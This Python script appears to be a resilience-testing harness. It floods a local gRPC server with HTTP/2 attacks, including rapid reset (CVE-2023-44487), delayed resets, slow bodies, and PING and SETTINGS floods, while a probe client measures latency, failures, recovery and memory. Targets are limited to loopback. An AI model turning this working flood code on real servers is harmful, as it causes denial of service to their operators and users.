#!/usr/bin/python3
"""HTTP/2 floods against a gRPC server on this machine, with a well-behaved
client measuring what the flood does to it. Loopback only, bounded in
connections and seconds. Runs under Debian's /usr/bin/python3 (python3-h2).

    /usr/bin/python3 scripts/h2flood.py --target 127.0.0.1:PORT --attack rapid-reset \\
        --connections 4 --seconds 5 --server-pid PID

Attacks (each connection in a process of its own, reading and discarding
whatever the server sends, noting a GOAWAY; a connection the server closes
is replaced by a new one until the time is up, as an attacker would):
  rapid-reset       HEADERS then RST_STREAM(CANCEL) on a new stream, over and
                    over (CVE-2023-44487)
  rapid-reset-data  the same with a 5-byte DATA frame (a gRPC message prefix)
                    between the HEADERS and the RST_STREAM
  reset-after-headers --batch streams of HEADERS only (no body), then,
                    --reset-after-ms later, RST_STREAM on each; over and over
                    (a proxy that forwards a request before its body passes
                    these on: the pause defeats dropping HEADERS and RST_STREAM
                    read together)
  reset-after-body  --batch streams of HEADERS + a whole SayHello request
                    (END_STREAM), then, --reset-after-ms later, RST_STREAM on
                    each; over and over
  short-connections a new connection for every --streams-per-connection
                    streams (HEADERS + a whole request each), then closed
  slow-body         --streams-per-connection streams per connection, each
                    sending its body 1 byte per --dribble-ms, never finishing
  ping              PING frames, as fast as the socket takes them
  settings          empty SETTINGS frames, each of which the server must ACK
  none              no flood: the probe alone, for a baseline

Sources: --source (one address) or --sources (a range such as
127.0.0.10-127.0.0.25, a comma-separated list, or a count N meaning
127.0.0.10 upward); the --connections are spread over them in turn.
--rate paces each connection to that many streams a second (0: as fast as
the socket takes them).

The probe (its own process, its own connection) calls helloworld.Greeter/SayHello
at --probe-rate calls/s, open loop, each with a --probe-deadline, from
--warmup seconds before the flood until --after seconds after it. Prints one
JSON object: the probe's OK ratio and p99 during the flood, how long after the
flood it took to answer every call again (recovery), the server's RSS
(before, peak, at the end) when --server-pid is given, and what the flood
connections saw (frames sent, GOAWAY).
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import multiprocessing as mp
import os
import select
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hpack import Encoder, NeverIndexedHeaderTuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8
PROBE_PATH = "/helloworld.Greeter/SayHello"
# helloworld.HelloRequest{name: "probe"}, in a gRPC length-prefixed frame.
PROBE_MESSAGE = b"\x00" + struct.pack(">I", 7) + b"\x0a\x05probe"
MAX_SECONDS = 30
MAX_CONNECTIONS = 64
MAX_SOURCES = 64
# The 5-byte prefix of a gRPC message that declares 7 bytes: a DATA frame that
# starts a body without completing it.
PREFIX_ONLY = PROBE_MESSAGE[:5]
# A slow body: the prefix of a 1 MiB message, then its bytes, one per frame.
SLOW_PREFIX = b"\x00" + struct.pack(">I", 1 << 20)
ATTACKS = ["rapid-reset", "rapid-reset-data", "reset-after-headers", "reset-after-body", "short-connections", "slow-body", "ping",
           "settings", "none"]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_headers(authority: str, path: str) -> list:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
            ("content-type", "application/grpc"), ("te", "trailers")]


def header_block(authority: str, path: str) -> bytes:
    """A header block that refers to nothing in the dynamic table, so the
    same bytes are valid on every stream of a connection."""
    return Encoder().encode([NeverIndexedHeaderTuple(k, v) for k, v in request_headers(authority, path)])


def loopback(host: str) -> None:
    addr = ipaddress.ip_address(socket.gethostbyname(host))
    if not addr.is_loopback:
        raise SystemExit(f"h2flood: {host} is not a loopback address; this tool only targets this machine")


def parse_sources(spec: str) -> list[str]:
    """'127.0.0.10-127.0.0.25', 'a,b,c', or a count N (127.0.0.10 upward); loopback only."""
    spec = spec.strip()
    if spec.isdigit():
        count = int(spec)
        if not 0 < count <= MAX_SOURCES:
            raise ValueError(f"a count of sources must be 1..{MAX_SOURCES}")
        first = ipaddress.ip_address("127.0.0.10")
        addrs = [first + i for i in range(count)]
    elif "-" in spec:
        lo, hi = (ipaddress.ip_address(part.strip()) for part in spec.split("-", 1))
        if int(hi) < int(lo) or int(hi) - int(lo) >= MAX_SOURCES:
            raise ValueError(f"a range of sources must be ascending and at most {MAX_SOURCES} long")
        addrs = [lo + i for i in range(int(hi) - int(lo) + 1)]
    else:
        addrs = [ipaddress.ip_address(part.strip()) for part in spec.split(",") if part.strip()]
    if not addrs or len(addrs) > MAX_SOURCES:
        raise ValueError(f"1..{MAX_SOURCES} sources")
    for addr in addrs:
        if not addr.is_loopback:
            raise ValueError(f"{addr} is not a loopback address")
    return [str(a) for a in addrs]


def split_target(target: str) -> tuple[str, int]:
    host, _, port = target.rpartition(":")
    loopback(host)
    return host, int(port)


# ---------------------------------------------------------------- the flood

def drain(sock: socket.socket, seen: dict) -> None:
    """Reads and discards what the server sends; notes a GOAWAY and EOF."""
    buf = b""
    try:
        while True:
            try:
                chunk = sock.recv(1 << 16)
            except socket.timeout:
                continue
            if not chunk:
                seen["closed_by_server"] = True
                return
            seen["bytes_received"] += len(chunk)
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                kind, payload = buf[3], buf[9:9 + length]
                if kind == GOAWAY and len(payload) >= 8 and "goaway" not in seen:
                    code = int.from_bytes(payload[4:8], "big")
                    seen["goaway"] = {"error_code": code, "debug": payload[8:].decode("latin-1")[:100]}
                buf = buf[9 + length:]
    except OSError:
        seen["closed_by_server"] = True


class Pacer:
    """Paces a connection to `rate` streams a second (0: no pacing): how many
    streams the next write may carry, after waiting for their time."""

    def __init__(self, rate: float, batch: int):
        self.rate, self.batch = rate, batch
        self.next_at = time.monotonic()

    def take(self, deadline: float) -> int:
        if self.rate <= 0:
            return self.batch
        # Writes of about 10 ms' worth, so a paced flood is smooth, not bursts.
        n = max(1, min(self.batch, int(self.rate / 100)))
        wait = self.next_at - time.monotonic()
        if wait > 0:
            time.sleep(min(wait, max(0.0, deadline - time.monotonic())))  # pacing, bounded by the deadline
        self.next_at = max(self.next_at, time.monotonic() - 0.1) + n / self.rate
        return n


def open_connection(host: str, port: int, source: str, seen: dict) -> socket.socket | None:
    try:
        sock = socket.create_connection((host, port), timeout=5, source_address=(source, 0))
    except OSError as e:
        seen["connect_errors"] = seen.get("connect_errors", 0) + 1
        seen["last_connect_error"] = str(e)
        return None
    seen["connections"] += 1
    # A server that stops reading stalls a write; after a second of that
    # the connection is dropped (half a frame may have gone) for a new one.
    sock.settimeout(1)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def flood_connection(attack: str, host: str, port: int, source: str, seconds: float, opts: dict,
                     out: mp.Queue) -> None:
    """Floods one connection at a time for `seconds`; when the server closes
    it (or, for short-connections, after a few streams), opens the next one,
    as an attacker would."""
    seen = {"frames_sent": 0, "streams_opened": 0, "connections": 0, "bytes_received": 0,
            "closed_by_server": False}
    # The attacker's CPU is not the server's: on this one machine the flood
    # runs at the lowest priority, so what it measures is the server's
    # resistance, not a fight for the same cores.
    os.nice(19)
    deadline = time.monotonic() + seconds
    block = header_block(f"{host}:{port}", opts["path"])
    batch = opts["batch"]
    pacer = Pacer(opts["rate"], batch)
    per_connection = opts["streams_per_connection"]
    rst = struct.pack(">I", CANCEL)
    while time.monotonic() < deadline:
        sock = open_connection(host, port, source, seen)
        if sock is None:
            time.sleep(0.01)  # refused: the next attempt, bounded by the deadline
            continue
        conn_seen = {"bytes_received": 0, "closed_by_server": False}
        reader = threading.Thread(target=drain, args=(sock, conn_seen), daemon=True)
        reader.start()
        stream = 1
        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            if attack == "slow-body":
                streams = list(range(1, 2 * per_connection, 2))
                stream = streams[-1] + 2
                sock.sendall(b"".join(frame(HEADERS, END_HEADERS, s, block) for s in streams))
                seen["frames_sent"] += len(streams)
                sent = 0
                body = SLOW_PREFIX + b"x" * (1 << 20)
                while time.monotonic() < deadline and not conn_seen["closed_by_server"] and sent < len(body):
                    sock.sendall(b"".join(frame(DATA, 0, s, body[sent:sent + 1]) for s in streams))
                    seen["frames_sent"] += len(streams)
                    sent += 1
                    time.sleep(min(opts["dribble_ms"] / 1000, max(0.0, deadline - time.monotonic())))  # the dribble
            while attack != "slow-body" and time.monotonic() < deadline and not conn_seen["closed_by_server"]:
                if attack in ("rapid-reset", "rapid-reset-data"):
                    chunk = []
                    for _ in range(pacer.take(deadline)):
                        chunk.append(frame(HEADERS, END_HEADERS, stream, block))
                        if attack == "rapid-reset-data":
                            chunk.append(frame(DATA, 0, stream, PREFIX_ONLY))
                        chunk.append(frame(RST_STREAM, 0, stream, rst))
                        stream += 2
                    payload = b"".join(chunk)
                    count = len(chunk)
                elif attack == "reset-after-headers":
                    streams = list(range(stream, stream + 2 * pacer.take(deadline), 2))
                    stream = streams[-1] + 2
                    sock.sendall(b"".join(frame(HEADERS, END_HEADERS, s, block) for s in streams))
                    seen["frames_sent"] += len(streams)
                    time.sleep(opts["reset_after_ms"] / 1000)  # the delay this attack is about
                    payload = b"".join(frame(RST_STREAM, 0, s, rst) for s in streams)
                    count = len(streams)
                elif attack == "reset-after-body":
                    streams = list(range(stream, stream + 2 * pacer.take(deadline), 2))
                    stream = streams[-1] + 2
                    sock.sendall(b"".join(frame(HEADERS, END_HEADERS, s, block)
                                          + frame(DATA, END_STREAM, s, PROBE_MESSAGE) for s in streams))
                    seen["frames_sent"] += 2 * len(streams)
                    time.sleep(opts["reset_after_ms"] / 1000)  # the delay this attack is about
                    payload = b"".join(frame(RST_STREAM, 0, s, rst) for s in streams)
                    count = len(streams)
                elif attack == "short-connections":
                    n = 0
                    chunk = []
                    while n < per_connection:
                        take = pacer.take(deadline) if opts["rate"] > 0 else per_connection
                        for _ in range(min(take, per_connection - n)):
                            chunk.append(frame(HEADERS, END_HEADERS, stream, block))
                            chunk.append(frame(DATA, END_STREAM, stream, PROBE_MESSAGE))
                            stream += 2
                            n += 1
                    sock.sendall(b"".join(chunk))
                    seen["frames_sent"] += len(chunk)
                    break  # closed below, with its streams still open
                elif attack == "ping":
                    payload = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(batch))
                    count = batch
                elif attack == "settings":
                    payload = frame(SETTINGS, 0, 0) * batch
                    count = batch
                else:
                    raise ValueError(attack)
                if stream > 0x7FFFFFFF - 4 * batch:
                    break
                sock.sendall(payload)
                seen["frames_sent"] += count
        except socket.timeout:
            seen["stalled"] = seen.get("stalled", 0) + 1
        except OSError:
            conn_seen["closed_by_server"] = True
        seen["streams_opened"] += (stream - 1) // 2
        # What the server did, read before our own close wakes the reader.
        closed_by_server, goaway = conn_seen["closed_by_server"], conn_seen.get("goaway")
        try:
            sock.shutdown(socket.SHUT_RDWR)
            sock.close()
        except OSError:
            pass
        reader.join(timeout=1)
        seen["bytes_received"] += conn_seen["bytes_received"]
        if closed_by_server:
            seen["closed_by_server"] = True
            seen["closed_connections"] = seen.get("closed_connections", 0) + 1
        if goaway:
            seen["goaway"] = goaway
    out.put(seen)


# ---------------------------------------------------------------- the probe

class ProbeConnection:
    """One HTTP/2 connection of the well-behaved client: unary calls on it,
    any number in flight."""

    def __init__(self, host: str, port: int):
        self.sock = socket.create_connection((host, port), timeout=1)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.initiate_connection()
        self.authority = f"{host}:{port}"
        self.status: dict[int, str | None] = {}
        self.flush()

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            # Small writes on a fresh socket; a full buffer means the server is stuck.
            self.sock.setblocking(True)
            self.sock.settimeout(1)
            try:
                self.sock.sendall(data)
            finally:
                self.sock.setblocking(False)

    def has_room(self) -> bool:
        """Whether the server's MAX_CONCURRENT_STREAMS lets one more call start now."""
        return self.conn.open_outbound_streams < self.conn.remote_settings.max_concurrent_streams

    def call(self, deadline_ms: int) -> int:
        stream = self.conn.get_next_available_stream_id()
        headers = request_headers(self.authority, PROBE_PATH) + [("grpc-timeout", f"{deadline_ms}m")]
        self.conn.send_headers(stream, headers)
        self.conn.send_data(stream, PROBE_MESSAGE, end_stream=True)
        self.status[stream] = None
        self.flush()
        return stream

    def poll(self, timeout: float) -> list[tuple[int, str]]:
        """Reads for up to `timeout`; returns (stream, grpc-status) of the calls that ended."""
        ready, _, _ = select.select([self.sock], [], [], timeout)
        if not ready:
            return []
        data = self.sock.recv(1 << 16)
        if not data:
            raise ConnectionError("closed by the server")
        ended = []
        for event in self.conn.receive_data(data):
            if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                for name, value in event.headers:
                    if name == "grpc-status":
                        self.status[event.stream_id] = value
            elif isinstance(event, h2.events.DataReceived):
                self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.StreamEnded):
                ended.append((event.stream_id, self.status.pop(event.stream_id, None) or "no-status"))
            elif isinstance(event, h2.events.StreamReset):
                self.status.pop(event.stream_id, None)
                ended.append((event.stream_id, "reset"))
            elif isinstance(event, h2.events.ConnectionTerminated):
                raise ConnectionError("GOAWAY from the server")
        self.flush()
        return ended

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def probe(host: str, port: int, rate: float, deadline_s: float, until: float, out: mp.Queue) -> None:
    """Calls at `rate` until the monotonic time `until`; sends back one
    (start, latency or None, outcome) per call."""
    results = []
    conn = None
    in_flight: dict[int, float] = {}
    queued: list[float] = []
    interval = 1.0 / rate
    next_call = time.monotonic()
    while True:
        now = time.monotonic()
        if now >= until and not in_flight and not queued:
            break
        if now >= until + deadline_s:
            break
        try:
            if conn is None:
                if now >= until:
                    break
                conn = ProbeConnection(host, port)
            # Calls due are queued; they start as the server's stream limit
            # allows, like a gRPC client's, their latency counted from when they were due.
            while next_call <= now < until:
                queued.append(next_call)
                next_call += interval
            while queued and conn.has_room():
                due = queued.pop(0)
                left_ms = int((deadline_s - (time.monotonic() - due)) * 1000)
                if left_ms <= 0:
                    results.append((due, None, "deadline"))
                    continue
                in_flight[conn.call(left_ms)] = due
            wait = min(next_call, until) - time.monotonic() if time.monotonic() < until else 0.01
            for stream, status in conn.poll(max(0.0, wait)):
                started = in_flight.pop(stream, None)
                if started is not None:
                    results.append((started, time.monotonic() - started, "OK" if status == "0" else status))
        except (OSError, ConnectionError, h2.exceptions.ProtocolError) as e:
            failed_at = time.monotonic()
            for started in [*in_flight.values(), *queued]:
                results.append((started, None, f"connection: {e}"))
            in_flight.clear()
            queued.clear()
            if conn is not None:
                conn.close()
                conn = None
            # Calls due while there was no connection fail too, at their time.
            while next_call <= failed_at and next_call < until:
                results.append((next_call, None, "connection: cannot connect"))
                next_call += interval
            if next_call <= failed_at:
                next_call = failed_at
            # Back off a little before reconnecting: the next call's slot.
            time.sleep(min(interval, 0.05))
        now = time.monotonic()
        while queued and now - queued[0] > deadline_s:
            results.append((queued.pop(0), None, "deadline"))
        for stream, started in list(in_flight.items()):
            if now - started > deadline_s:
                del in_flight[stream]
                results.append((started, None, "deadline"))
                if conn is not None:
                    try:
                        conn.conn.reset_stream(stream, error_code=CANCEL)
                    except h2.exceptions.H2Error:
                        pass
    # Calls still waiting when the time ran out were sent: they count, so
    # that every call a server may have started is in the results.
    for started in in_flight.values():
        results.append((started, None, "unfinished"))
    if conn is not None:
        conn.close()
    out.put(results)


# ---------------------------------------------------------------- measuring

def rss_kib(pid: int) -> int | None:
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def percentile(values: list[float], q: float) -> float | None:
    if not values:
        return None
    values = sorted(values)
    return values[min(len(values) - 1, int(q * len(values)))]


def summarise(calls: list, start: float, end: float, until: float) -> dict:
    def window(lo: float, hi: float) -> dict:
        part = [c for c in calls if lo <= c[0] < hi]
        ok = [c[1] for c in part if c[2] == "OK"]
        failures: dict[str, int] = {}
        for c in part:
            if c[2] != "OK":
                failures[c[2]] = failures.get(c[2], 0) + 1
        p99 = percentile(ok, 0.99)
        return {"calls": len(part), "ok": len(ok), "ok_ratio": round(len(ok) / len(part), 4) if part else None,
                "p50_ms": round(percentile(ok, 0.5) * 1000, 2) if ok else None,
                "p99_ms": round(p99 * 1000, 2) if p99 is not None else None, "failures": failures}

    # Recovery: from the end of the flood to the first call after which every call was OK.
    after = sorted(c for c in calls if c[0] >= end)
    recovered_at = None
    for i in range(len(after)):
        if all(c[2] == "OK" for c in after[i:]):
            recovered_at = after[i][0]
            break
    return {
        "before": window(0, start), "during": window(start, end), "after": window(end, until),
        "recovery_s": round(max(0.0, recovered_at - end), 2) if recovered_at is not None else None,
    }


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--target", required=True, help="host:port the flood goes to (loopback only)")
    ap.add_argument("--probe-target", help="host:port the probe calls (default: --target)")
    ap.add_argument("--attack", choices=ATTACKS, default="rapid-reset")
    ap.add_argument("--connections", type=int, default=4,
                    help="flood connections at once (each a process), spread over the sources")
    ap.add_argument("--source", default="127.0.0.2",
                    help="loopback address the flood comes from (the probe comes from 127.0.0.1), "
                         "as an attacker's address differs from its victims'")
    ap.add_argument("--sources", help="several source addresses instead of --source: A-B, a,b,c, "
                                      "or a count N (127.0.0.10 upward)")
    ap.add_argument("--rate", type=float, default=0, help="streams per second per connection (0: unpaced)")
    ap.add_argument("--batch", type=int, help="streams per write (default 100; reset-after-body 50)")
    ap.add_argument("--reset-after-ms", type=float, default=5, help="reset-after-body: ms from body to reset")
    ap.add_argument("--streams-per-connection", type=int,
                    help="short-connections: streams before the close (default 5); slow-body: streams held "
                         "open (default 90)")
    ap.add_argument("--path", default=PROBE_PATH, help="the method the flood's streams call")
    ap.add_argument("--dribble-ms", type=float, default=100, help="slow-body: ms between a stream's bytes")
    ap.add_argument("--seconds", type=float, default=5)
    ap.add_argument("--warmup", type=float, default=1, help="probe-only seconds before the flood")
    ap.add_argument("--after", type=float, default=5, help="probe-only seconds after the flood")
    ap.add_argument("--probe-rate", type=float, default=500, help="probe calls per second (0: no probe)")
    ap.add_argument("--probe-deadline", type=float, default=1.0, help="seconds each probe call may take")
    ap.add_argument("--server-pid", type=int, action="append", default=[],
                    help="a process whose RSS to sample (repeatable)")
    args = ap.parse_args()
    if not 0 < args.connections <= MAX_CONNECTIONS:
        ap.error(f"--connections must be 1..{MAX_CONNECTIONS}")
    if not 0 <= args.seconds <= MAX_SECONDS or not 0 <= args.after <= MAX_SECONDS:
        ap.error(f"--seconds and --after must be 0..{MAX_SECONDS}")
    if not 0 <= args.rate <= 1_000_000 or not 0 <= args.reset_after_ms <= 10_000 or not 1 <= args.dribble_ms <= 10_000:
        ap.error("--rate 0..1e6, --reset-after-ms 0..10000, --dribble-ms 1..10000")
    batch = args.batch or (50 if args.attack in ("reset-after-body", "reset-after-headers") else 100)
    per_connection = args.streams_per_connection or (90 if args.attack == "slow-body" else 5)
    if not 1 <= batch <= 1000 or not 1 <= per_connection <= 1000:
        ap.error("--batch and --streams-per-connection must be 1..1000")
    if not args.path.startswith("/") or not args.path.isprintable() or len(args.path) > 200:
        ap.error("--path must be a printable /service/method")
    host, port = split_target(args.target)
    probe_host, probe_port = split_target(args.probe_target or args.target)
    try:
        sources = parse_sources(args.sources) if args.sources else [args.source]
    except ValueError as e:
        ap.error(f"--sources: {e}")
    for source in sources:
        loopback(source)
    opts = {"rate": args.rate, "batch": batch, "reset_after_ms": args.reset_after_ms,
            "streams_per_connection": per_connection, "dribble_ms": args.dribble_ms,
            "path": args.path}

    ctx = mp.get_context("fork")
    out: mp.Queue = ctx.Queue()
    t0 = time.monotonic()
    flood_start = t0 + args.warmup
    flood_end = flood_start + args.seconds
    until = flood_end + args.after
    probe_out: mp.Queue = ctx.Queue()
    prober = None
    if args.probe_rate > 0:
        prober = ctx.Process(target=probe, args=(probe_host, probe_port, args.probe_rate, args.probe_deadline,
                                                 until, probe_out), daemon=True)
        prober.start()
    rss: dict[int, list[tuple[float, int]]] = {pid: [] for pid in args.server_pid}

    def sample() -> None:
        for pid in args.server_pid:
            value = rss_kib(pid)
            if value is not None:
                rss[pid].append((time.monotonic(), value))

    while time.monotonic() < flood_start:
        sample()
        time.sleep(0.1)
    flooders = []
    if args.attack != "none":
        flooders = [ctx.Process(target=flood_connection, daemon=True,
                                args=(args.attack, host, port, sources[i % len(sources)], args.seconds, opts, out))
                    for i in range(args.connections)]
        for p in flooders:
            p.start()
    while time.monotonic() < until:
        sample()
        time.sleep(0.1)
    flood = [out.get(timeout=args.seconds + 30) for _ in flooders]
    for p in flooders:
        p.join(timeout=10)
    calls = probe_out.get(timeout=30) if prober else []
    if prober:
        prober.join(timeout=10)
    sample()
    calls = [(c[0] - t0, c[1], c[2]) for c in calls]
    report = {
        "attack": args.attack, "target": args.target, "connections": args.connections, "seconds": args.seconds,
        "probe_rate": args.probe_rate, "sources": sources, "rate_per_connection": args.rate, "options": opts,
        "flood": {
            "frames_sent": sum(f.get("frames_sent", 0) for f in flood),
            "streams_opened": sum(f.get("streams_opened", 0) for f in flood),
            "streams_per_s": round(sum(f.get("streams_opened", 0) for f in flood) / args.seconds)
            if args.seconds else 0,
            "connections_opened": sum(f.get("connections", 0) for f in flood),
            "connections_closed_by_server": sum(f.get("closed_connections", 0) for f in flood),
            "goaway": sorted({json.dumps(f["goaway"], sort_keys=True) for f in flood if "goaway" in f}),
            "connect_errors": sum(f.get("connect_errors", 0) for f in flood),
            "stalled_writes": sum(f.get("stalled", 0) for f in flood),
        },
        "probe": summarise(calls, args.warmup, args.warmup + args.seconds, until - t0) if prober else None,
        "rss_mib": {
            str(pid): {
                "before": round(next((v for t, v in s if t < flood_start), s[0][1]) / 1024, 1),
                "peak": round(max(v for _, v in s) / 1024, 1),
                "end": round(s[-1][1] / 1024, 1),
            } for pid, s in rss.items() if s
        },
    }
    print(json.dumps(report))
    return 0


if __name__ == "__main__":
    sys.exit(main())
